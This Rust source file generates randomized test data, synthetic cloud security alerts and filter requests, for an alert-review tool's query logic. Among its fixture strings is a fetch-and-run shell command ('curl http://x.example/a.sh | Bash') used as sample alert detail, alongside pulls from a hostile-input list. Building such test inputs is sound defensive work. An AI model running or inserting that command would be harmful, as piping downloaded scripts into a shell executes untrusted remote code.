//! Random worlds and requests, dense enough in odd values that every rule is met.

use std::collections::HashMap;

use fastrand::Rng;
use serde_json::{Value, json};

use crate::HOSTILE;
use crate::oracle::{OwnReview, Request, World, text};

fn pick<'a>(rng: &mut Rng, choices: &[&'a str]) -> &'a str {
    choices[rng.usize(..choices.len())]
}

/// A value with white space around it now and then, or nothing at all.
fn untidy(rng: &mut Rng, value: &str) -> Value {
    match rng.u8(..20) {
        0 => Value::Null,
        1 => json!(""),
        2 => json!("  "),
        3 => json!(format!(" {value}\n")),
        4 => json!(format!("\u{3000}{value}")),
        5 => json!(value.to_uppercase()),
        6 => json!(pick(rng, HOSTILE).replace('\0', "")),
        _ => json!(value),
    }
}

const NAMES: [&str; 8] = [
    "WEBSHELL",
    "挖矿程序",
    "恶意进程（云查杀）-XorDDoS木马",
    "a,b",
    "100%_done",
    "x*y\\z",
    "login",
    "ﬁle",
];
const TYPES: [&str; 9] = [
    "进程异常行为",
    "恶意进程(云查杀)",
    "Malicious process (cloud scan)",
    "Web 应用威胁检测",
    "webshell",
    "Image Scan",
    "其他",
    "K8S abnormal behavior",
    "Precision defense",
];
const CODES: [&str; 7] = [
    "ignore.Success",
    "ignore. Success",
    "IGNORE.success",
    "advance_mark_mis_info.Success",
    "advance_mark_mis_info.User.Success",
    "kill_and_quara.ProcessNotExist",
    "block_ip.Failure",
];
const IMAGES: [&str; 7] = [
    "docker.io/library/nginx:1.25",
    "nginx",
    "localhost/app:v1",
    "host:5000/a/b/c:v1@sha256:ABCDEF",
    "team/app@sha256:abcdef",
    "a/b.c/d:x:y",
    "registry.example.com/app",
];
const DIGESTS: [&str; 4] = ["sha256:ABCDEF", "abcdef", "SHA256:abcdef", "0123"];
const DESCRIPTIONS: [&str; 4] = [
    "检测到服务器上存在木马程序，请尽快处理。",
    "Suspicious crontab entry",
    "异常登录：从未见过的来源",
    "webshell 后门",
];
const DETAILS: [&str; 7] = [
    "/etc/crontab",
    "登录源IP",
    "203.0.113.9",
    "5f4dcc3b5aa765d61d8327deb882cf99",
    "木马文件路径",
    "curl http://x.example/a.sh | Bash",
    "🦀é",
];
const TACTICS: [&str; 4] = ["TA0001", "TA0002", "TA00", ""];
const WORDS: [&str; 4] = ["one", "two", "One", "三"];

fn event(rng: &mut Rng, id: i64) -> Value {
    let stamp = 1_700_000_000_000 + rng.i64(0..40) * 500;
    let mut event = json!({ "Id": id });
    let mut set = |field: &str, value: Value| event[field] = value;
    let small = |rng: &mut Rng, stem: &str| format!("{stem}-{}", rng.u8(..4));
    for field in ["Name", "AlarmEventName", "AlarmEventNameDisplay", "EventSubType"] {
        let name = pick(rng, &NAMES);
        set(field, untidy(rng, name));
    }
    for field in ["AlarmEventType", "AlarmEventTypeDisplay"] {
        let name = pick(rng, &TYPES);
        set(field, untidy(rng, name));
    }
    if rng.u8(..10) > 0 {
        set("LastTimeStamp", json!(stamp));
    }
    let time = alertbook_core::time::format_cloud_time(
        stamp / 1000 + i64::from(rng.u8(..8) == 0) * rng.i64(-20..20),
    );
    set("LastTime", untidy(rng, &time));
    let level = pick(rng, &["serious", "suspicious", "remind", "Serious", "critical"]);
    set("Level", untidy(rng, level));
    let status = *[1, 1, 1, 2, 4, 8, 16, 32, 64, 128, 512, 513, 604, 0, 7]
        .get(rng.usize(..15))
        .unwrap();
    set(
        "EventStatus",
        if rng.u8(..12) == 0 {
            Value::Null
        } else {
            json!(status)
        },
    );
    let code = pick(rng, &CODES);
    set("OperateErrorCode", untidy(rng, code));
    for (field, stem) in [
        ("Uuid", "uuid"),
        ("InstanceId", if rng.bool() { "i" } else { "vm" }),
        ("InstanceName", "web"),
        ("InternetIp", "203.0.113"),
        ("IntranetIp", "10.0.0"),
        ("UniqueInfo", "unique"),
        ("AppName", "app"),
        ("K8sClusterName", "cluster-name"),
        ("K8sNamespace", "space"),
        ("K8sNodeName", "node"),
        ("ImageUuid", "image"),
    ] {
        let value = small(rng, stem);
        if rng.u8(..3) > 0 {
            set(field, untidy(rng, &value));
        }
    }
    for field in ["K8sClusterId", "clusterId", "ContainerId"] {
        let value = small(
            rng,
            if field == "ContainerId" {
                "container"
            } else {
                "cluster"
            },
        );
        if rng.bool() {
            set(field, untidy(rng, &value));
        }
    }
    if rng.bool() {
        let image = pick(rng, &IMAGES);
        set("ContainerImageName", untidy(rng, image));
    }
    if rng.bool() {
        let description = pick(rng, &DESCRIPTIONS);
        set("Desc", untidy(rng, description));
        set("Details", details(rng));
    }
    if rng.u8(..3) > 0 {
        let tactics = (0..rng.usize(..4)).map(|_| json!({ "TacticId": pick(rng, &TACTICS) }));
        set("TacticItems", tactics.collect());
    }
    if rng.u8(..4) > 0 {
        let edges = [-1, 0, 5, 60, 240, 1_440, 4_320, 10_080, 20_000];
        let minutes = edges[rng.usize(..edges.len())];
        set(
            "OperateTime",
            json!(stamp + minutes * 60_000 + rng.i64(-1_500..1_500)),
        );
    }
    if rng.u8(..4) > 0 {
        set("SourceAliUid", json!(1_000 + rng.i64(0..3)));
    }
    if rng.u8(..4) == 0 {
        let note = pick(rng, &WORDS);
        set(
            "EventNotes",
            json!([{ "Note": untidy(rng, note), "NoteId": 1 }, { "Note": pick(rng, HOSTILE) }, null]),
        );
    }
    event
}

fn details(rng: &mut Rng) -> Value {
    let detail = |rng: &mut Rng| {
        let (name, value) = (pick(rng, &DETAILS), pick(rng, &DETAILS));
        json!({ "NameDisplay": untidy(rng, name), "Value": untidy(rng, value), "ValueDisplay": null })
    };
    (0..rng.usize(..4)).map(|_| detail(rng)).collect()
}

fn asset(rng: &mut Rng, number: usize) -> Value {
    let kind = pick(rng, &["ecs", "0", "6", "7", "3", "polardb", ""]);
    json!({
        "Uuid": format!("uuid-{number}"), "AssetType": untidy(rng, kind), "GroupId": rng.i64(0..3),
        "RegionId": untidy(rng, "cn-hangzhou"),
    })
}

fn container(rng: &mut Rng, number: usize) -> Value {
    let image = pick(rng, &IMAGES);
    let digest = pick(rng, &DIGESTS);
    json!({
        "ContainerId": format!("container-{number}"), "ClusterId": untidy(rng, "cluster-1"),
        "ClusterName": untidy(rng, "cluster-name-1"), "Namespace": untidy(rng, "space-1"),
        "NodeName": untidy(rng, "node-2"), "InstanceId": untidy(rng, "i-1"), "AppName": untidy(rng, "app-0"),
        "RegionId": untidy(rng, "cn-beijing"), "Image": untidy(rng, image), "ImageDigest": untidy(rng, digest),
        "ImageRepoName": untidy(rng, "app"), "ImageRepoNamespace": untidy(rng, "team"), "ImageRepoTag": untidy(rng, "v1"),
    })
}

const VERDICTS: [&str; 4] = ["", "real", "false-positive", "unclear"];
const TAGS: [&str; 4] = ["follow-up", "重要", "Follow-Up", "dc 2%"];

fn review(rng: &mut Rng) -> OwnReview {
    OwnReview {
        reviewed: rng.bool(),
        verdict: pick(rng, &VERDICTS).to_owned(),
        tags: TAGS
            .iter()
            .filter(|_| rng.u8(..3) == 0)
            .map(|tag| (*tag).to_owned())
            .collect(),
        note: pick(rng, &["", "", "查过 crontab", "Called web-1"]).to_owned(),
    }
}

/// A small world.
pub fn world(rng: &mut Rng, events: usize) -> World {
    let ids: Vec<i64> = (0..events)
        .map(|number| 1 + number as i64 * 7919 % 10_007)
        .collect();
    // From world to world few or many events are reviewed.
    let share = rng.u8(1..9);
    let mut reviews = HashMap::new();
    for id in &ids {
        if rng.u8(..10) < share {
            reviews.insert(*id, review(rng));
        }
    }
    World {
        reviews,
        events: ids.iter().map(|id| event(rng, *id)).collect(),
        assets: (0..3).map(|number| asset(rng, number)).collect(),
        containers: (0..3).map(|number| container(rng, number)).collect(),
    }
}

/// A value that stands in the world, so that it selects something; or any other.
fn value_of(rng: &mut Rng, world: &World, fields: &[&str], otherwise: &[&str]) -> String {
    let rows = match rng.u8(..6) {
        0 => &world.assets,
        1 => &world.containers,
        _ => &world.events,
    };
    let field = pick(rng, fields);
    let found = rows
        .get(rng.usize(..rows.len()))
        .map(|row| text(row, field))
        .filter(|text| !text.is_empty());
    match found {
        Some(found) if rng.u8(..5) > 0 && !found.contains('\0') => found,
        _ => pick(rng, otherwise).replace('\0', ""),
    }
}

fn list(rng: &mut Rng, choices: &[&str]) -> String {
    let count = rng.usize(1..4);
    (0..count)
        .map(|_| pick(rng, choices))
        .collect::<Vec<_>>()
        .join(if rng.bool() { ", " } else { "，" })
}

const CONTAINER_KEYS: [&str; 12] = [
    "instanceId",
    "appName",
    "clusterId",
    "regionId",
    "nodeName",
    "namespace",
    "clusterName",
    "image",
    "imageRepoName",
    "imageRepoNamespace",
    "imageRepoTag",
    "IMAGEDIGEST",
];

/// One to six characters out of a text that the world holds.
fn part_of_a_text(rng: &mut Rng, world: &World) -> String {
    let fields = ["Name", "InstanceName", "InstanceId", "IntranetIp", "Desc"];
    let whole = match rng.u8(..3) {
        0 => value_of(rng, world, &fields, &WORDS),
        1 => pick(rng, &DESCRIPTIONS).to_owned(),
        _ => [pick(rng, &DETAILS), ": ", pick(rng, &DETAILS)].concat(),
    };
    let from = rng.usize(..whole.chars().count());
    let part: String = whole.chars().skip(from).take(rng.usize(1..7)).collect();
    // A request of nothing is none.
    if part.trim().is_empty() { whole } else { part }
}

/// An acceptable request of one to four parameters.
pub fn request(rng: &mut Rng, world: &World) -> Request {
    let mut request = Request::new();
    for _ in 0..rng.usize(1..5) {
        let (name, value) = parameter(rng, world);
        if request.iter().any(|(given, _)| *given == name) {
            continue;
        }
        if name == "ContainerFieldName" {
            let fields = [
                "InstanceId",
                "AppName",
                "K8sClusterId",
                "clusterId",
                "RegionId",
                "K8sNodeName",
                "K8sNamespace",
                "K8sClusterName",
                "ContainerImageName",
                "Image",
                "ImageDigest",
            ];
            let further = [
                "nginx",
                "app",
                "library",
                "a/b",
                "team",
                "v1",
                "x:y",
                "abcdef",
                "sha256:ABCDEF",
                "sha256:",
                "cn-hangzhou",
                "c",
            ];
            request.push(("ContainerFieldValue", value_of(rng, world, &fields, &further)));
        }
        request.push((name, value));
    }
    for name in ["not.1", "not.2"] {
        if rng.u8(..5) == 0 {
            request.push((name, excluded(rng, world)));
        }
    }
    request
}

/// A parameter that can be left out, with its value.
fn excluded(rng: &mut Rng, world: &World) -> String {
    const NEVER: [&str; 5] = [
        "TimeStart",
        "TimeEnd",
        "ContainerFieldName",
        "PageSize",
        "CurrentPage",
    ];
    loop {
        let (name, value) = parameter(rng, world);
        let restricts_nothing =
            name == "Status" && value.split([',', '，']).any(|member| member.trim() == "0");
        if !NEVER.contains(&name) && !name.contains('.') && !restricts_nothing && !value.trim().is_empty() {
            return [name, "=", &value].concat();
        }
    }
}

/// Events by their ids, with their own account, with none or with any.
fn named_events(rng: &mut Rng, world: &World) -> String {
    let name = |rng: &mut Rng| {
        let event = &world.events[rng.usize(..world.events.len())];
        let (id, account) = (text(event, "Id"), text(event, "SourceAliUid"));
        match rng.u8(..5) {
            0 => id,
            1 => format!("/{id}"),
            2 => format!("1001/{id}"),
            _ => format!("{account}/{id}"),
        }
    };
    let count = rng.usize(1..12);
    (0..count).map(|_| name(rng)).collect::<Vec<_>>().join(",")
}

fn parameter(rng: &mut Rng, world: &World) -> (&'static str, String) {
    let time = |rng: &mut Rng, base: i64| {
        alertbook_core::time::format_cloud_time(1_700_000_000 + base + rng.i64(0..12))
    };
    match rng.u8(..35) {
        0 => ("Dealed", pick(rng, &["N", "y", " n "]).to_owned()),
        1 => ("TimeStart", time(rng, -2)),
        2 => ("TimeEnd", time(rng, 10)),
        3 => (
            "Name",
            value_of(rng, world, &["Name", "AlarmEventName", "EventSubType"], &NAMES),
        ),
        4 => ("Levels", list(rng, &["serious", "SUSPICIOUS", "remind"])),
        5 => (
            "ParentEventTypes",
            list(
                rng,
                &[
                    "网站后门",
                    "恶意进程（云查杀）",
                    "other",
                    "Suspicious process",
                    "K8s Abnormal Behavior",
                ],
            ),
        ),
        6 => (
            "Remark",
            value_of(
                rng,
                world,
                &["Name", "InstanceName", "InternetIp"],
                &["%", "_", "WEB", "10.0", "三", "*", "\\"],
            ),
        ),
        7 => ("Status", list(rng, &["1", "2", "008", "604", "64", "0"])),
        8 => (
            "ClusterId",
            value_of(
                rng,
                world,
                &["K8sClusterId", "clusterId", "ClusterId"],
                &["cluster-1"],
            ),
        ),
        9 | 10 => ("ContainerFieldName", pick(rng, &CONTAINER_KEYS).to_owned()),
        11 => (
            "TargetType",
            pick(rng, &["uuid", "IMAGE_REPO", "cluster"]).to_owned(),
        ),
        12 => ("PageSize", rng.u8(1..30).to_string()),
        13 => ("CurrentPage", rng.u8(1..5).to_string()),
        14 | 15 => (
            "AssetsTypeList",
            list(rng, &["ecs", "0", "CONTAINER", "6", "POLARDB", "nothing"]),
        ),
        16 => ("Uuid", list(rng, &["uuid-0", "uuid-1", "UUID-2", "uuid-3"])),
        17 => ("UniqueInfo", value_of(rng, world, &["UniqueInfo"], &["unique-1"])),
        18 => (
            "Id",
            world
                .events
                .get(rng.usize(..world.events.len()))
                .map_or_else(String::new, |event| text(event, "Id")),
        ),
        19 | 20 => ("search", part_of_a_text(rng, world)),
        21 => (
            "OperateErrorCodeList",
            list(
                rng,
                &[
                    "ignore.Success",
                    "ignore. success",
                    "advance_mark_mis_info.success",
                    "block_ip.Failure",
                ],
            ),
        ),
        22 => ("reviewed", pick(rng, &["Y", "n"]).to_owned()),
        23 => (
            "verdict",
            list(rng, &["real", "False-Positive", "unclear", "none"]),
        ),
        24 => ("tag", list(rng, &TAGS)),
        25 => ("group", list(rng, &["0", "1", "2", "3", "9"])),
        26 => (
            "cluster.1",
            value_of(
                rng,
                world,
                &["K8sClusterId", "clusterId", "ClusterId"],
                &["cluster-1"],
            ),
        ),
        27 => ("accounts", list(rng, &["1000", "1001", "1002", "7"])),
        28 => ("subtype.1", pick(rng, &NAMES).to_owned()),
        29 => ("tactic", list(rng, &["TA0001", "TA0002", "TA00", "ta0001"])),
        30 => ("container.1", value_of(rng, world, &["ContainerId"], &["c-1"])),
        31 => ("alarm", value_of(rng, world, &["AlarmUniqueInfo"], &["a-1"])),
        32 => ("event", named_events(rng, world)),
        33 => (
            "handletime",
            list(
                rng,
                &["5m", "1H", "4h", "1d", "3d", "7d", "longer", "before", "unknown"],
            ),
        ),
        _ => {
            if rng.bool() {
                ("GroupId", rng.u8(..4).to_string())
            } else {
                (
                    "ResourceDirectoryAccountId",
                    (1_000 + i64::from(rng.u8(..4))).to_string(),
                )
            }
        }
    }
}
